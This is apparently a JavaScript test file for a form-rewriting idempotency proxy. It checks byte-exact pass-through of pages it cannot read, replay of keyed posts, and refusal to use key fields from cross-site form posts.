  test("pages the rewriter cannot read (UTF-16, an unknown charset, a 206 range) pass as sent", async () => {
    for (const path of ["/utf16", "/unknown-charset", "/range"]) {
      const res = await proxy.fetch(path, { headers: { "accept-encoding": "identity" } });
      assert.ok(res.status === 200 || res.status === 206, `${path}: ${res.status}`);
      const bytes = Buffer.from(await res.arrayBuffer());
      const text = path === "/utf16" ? bytes.toString("utf16le").replace(/^\ufeff/, "") : bytes.toString();
      assert.equal(text, FOREIGN_PAGE, `${path}: the origin's bytes`);
    }
  });

  test("a page the rewriter stops on midway, or in another charset, arrives whole: keys before, every other byte as sent", async () => {
    for (const [path, parts] of Object.entries(BROKEN)) {
      // Read byte for byte (latin1), so a re-encoded byte shows.
      const page = Buffer.concat([parts].flat().map((part) => Buffer.from(part))).toString("latin1");
      const forms = page.split("</form>").length - 1;
      const res = await proxy.fetch(path, { headers: { "accept-encoding": "identity" } });
      assert.equal(res.status, 200, path);
      const html = Buffer.from(await res.arrayBuffer()).toString("latin1");
      // The forms before the break have their keys where the rewriter passed
      // them on before stopping (it may drop what it had read of a chunk).
      const keys = [...html.matchAll(KEY_FIELD)].length;
      assert.ok(keys <= forms, `${path}: ${keys} keys`);
      const sent = keys > 0 ? pinned(page) : page;
      const unkeyed = html.replace(KEY_FIELD, "").replace(NAMED_KEY_FIELD, "");
      assert.equal(unkeyed, sent, `${path}: ${html.length} characters of ${sent.length}`);
    }
  });

  test("a tag the rewriter would choke on (4 MB): the page arrives whole, keys before it, the rest as sent", async () => {
    const res = await proxy.fetch("/huge-tag", { headers: { "accept-encoding": "identity" } });
    assert.equal(res.status, 200);
    const html = await res.text();
    const keys = [...html.matchAll(KEY_FIELD)].map((m) => m[1]);
    assert.equal(keys.length, 1, "the form with no id before the tag has its key");
    assert.doesNotMatch(html, NAMED_KEY_FIELD, "one with an id none: the page was never seen whole");
    assert.match(keys[0], UUID7);
    assert.equal(
      html.replace(KEY_FIELD, ""),
      pinned(HUGE_TAG_PAGE),
      "every other byte as the server sent it, none cut",
    );
    // Keyed, the first answer is whole too; its 4 MB body is over the stored
    // limit, so the replay has its status and headers (and no body).
    const key = crypto.randomUUID();
    const send = () =>
      proxy.fetch("/huge-tag", {
        method: "POST",
        headers: { "content-type": "application/json", "idempotency-key": key, "accept-encoding": "identity" },
        body: "{}",
      });
    assert.equal((await (await send()).text()).replace(KEY_FIELD, ""), pinned(HUGE_TAG_PAGE));
    const replay = await send();
    assert.equal(replay.status, 200);
    assert.equal(replay.headers.get("idempotent-replayed"), "true");
    assert.equal(replay.headers.get("idempotent-body-omitted"), "true");
    await replay.arrayBuffer();
  });

  test("a keyed post answered in a charset the rewriter cannot read: stored once, replayed, never run again", async () => {
    for (const path of ["/utf16", "/unknown-charset"]) {
      const key = crypto.randomUUID();
      const send = () =>
        proxy.fetch(path, {
          method: "POST",
          headers: { "content-type": "application/json", "idempotency-key": key },
          body: "{}",
        });
      const first = await send();
      assert.equal(first.status, 200, path);
      const firstBytes = Buffer.from(await first.arrayBuffer());
      // Duplicates right after: the finish was sent, so they get the replay, never a 409.
      const again = await Promise.all(Array.from({ length: 8 }, send));
      for (const res of again) {
        assert.equal(res.status, 200, path);
        assert.equal(res.headers.get("idempotent-replayed"), "true", path);
        assert.deepEqual(Buffer.from(await res.arrayBuffer()), firstBytes, path);
      }
    }
  });

  test("an answer that is not HTML passes byte for byte, its length and validator kept", async () => {
    const res = await proxy.fetch("/data.json", { headers: { "accept-encoding": "identity" } });
    assert.equal(await res.text(), JSON_BODY);
    assert.equal(res.headers.get("etag"), '"d1"');
    assert.equal(res.headers.get("content-length"), String(JSON_BODY.length));
  });
});

// SPEC §8: only the page's own site may key a request by its field. A
// forged form on another site rides the victim's cookies; were its field
// used, the attacker could then post the same field with no cookies and
// read the victim's answer as a replay.
describe("IDEMPOTENCY_FORMS=inject: a form post from another site", () => {
  let proxy;
  let origin;
  let stop;
  before(async () => {
    ({ proxy, origin, stop } = await behindProxy({ IDEMPOTENCY_FORMS: "inject" }));
  });
  after(() => stop?.());

  const post = (key, headers) =>
    proxy.fetch("/orders", {
      method: "POST",
      headers: { "content-type": "application/x-www-form-urlencoded", ...headers },
      body: `item=tea&idempotency_key=${key}`,
      redirect: "manual",
    });

  const forged = [
    ["Sec-Fetch-Site: cross-site", { "sec-fetch-site": "cross-site", origin: "https://evil.example" }],
    ["an Origin of another site, no Sec-Fetch-Site", { origin: "https://evil.example" }],
    [
      "Sec-Fetch-Site: cross-site with our own Origin",
      { "sec-fetch-site": "cross-site", origin: "http://oncekey.test" },
    ],
    ["Origin: null", { origin: "null" }],
    // A sibling origin of the same site (a user-content subdomain): SameSite
    // cookies travel with its posts, so it is another origin (SPEC §8).
    ["Sec-Fetch-Site: same-site", { "sec-fetch-site": "same-site", origin: "http://shop.oncekey.test" }],
  ];
  for (const [what, site] of forged) {
    test(`${what}: the field is removed and unused; no answer is planted, none can be read`, async () => {
      const key = crypto.randomUUID();
      const before = origin.posts.length;
      // The victim's browser, with the victim's cookies.
      const victim = await post(key, { ...site, cookie: "session=victim" });
      assert.equal(victim.status, 303);
      const got = origin.posts[before];
      assert.equal(got.headers["idempotency-key"], undefined, "not keyed");
      assert.equal(got.body.toString(), "item=tea", "the field never reaches the server");
      // The attacker, with the same body and key and no cookies: a request
      // of its own, never the victim's answer.
      const attacker = await post(key, {});
      assert.equal(attacker.headers.get("idempotent-replayed"), null);
      assert.equal(origin.posts.length, before + 2);
      assert.equal(origin.posts[before + 1].headers["idempotency-key"], key);
    });
  }

  const own = [
    ["Sec-Fetch-Site: same-origin", { "sec-fetch-site": "same-origin", origin: "http://oncekey.test" }],
    ["our own Origin, no Sec-Fetch-Site", { origin: "http://oncekey.test" }],
  ];
  for (const [what, site] of own) {
    test(`${what}: keyed by its field, once`, async () => {
      const key = crypto.randomUUID();
      const before = origin.posts.length;
      assert.equal((await post(key, site)).status, 303);
      const again = await post(key, site);
      assert.equal(again.headers.get("idempotent-replayed"), "true");
      assert.equal(origin.posts.length, before + 1);
      assert.equal(origin.posts[before].headers["idempotency-key"], key);
    });
  }
});

describe("IDEMPOTENCY_FORMS unset (off)", () => {
  let proxy;
  let origin;
  let stop;
  before(async () => {
    ({ proxy, origin, stop } = await behindProxy());
  });
  after(() => stop?.());

  test("pages pass untouched and a field is just a field", async () => {
    const res = await proxy.fetch("/shop");
    assert.equal(await res.text(), PAGE);
    assert.equal(res.headers.get("etag"), '"page-v1"');
    assert.equal(res.headers.get("cdn-cache-control"), "max-age=600", "untouched when off");
    const post = await proxy.fetch("/orders", {
      method: "POST",
      headers: { "content-type": "application/x-www-form-urlencoded" },
      body: "item=tea&idempotency_key=k1",
      redirect: "manual",
    });
    assert.equal(post.status, 303);
    assert.equal(origin.posts.at(-1).body.toString(), "item=tea&idempotency_key=k1");
    assert.equal(origin.posts.at(-1).headers["idempotency-key"], undefined);
  });
});
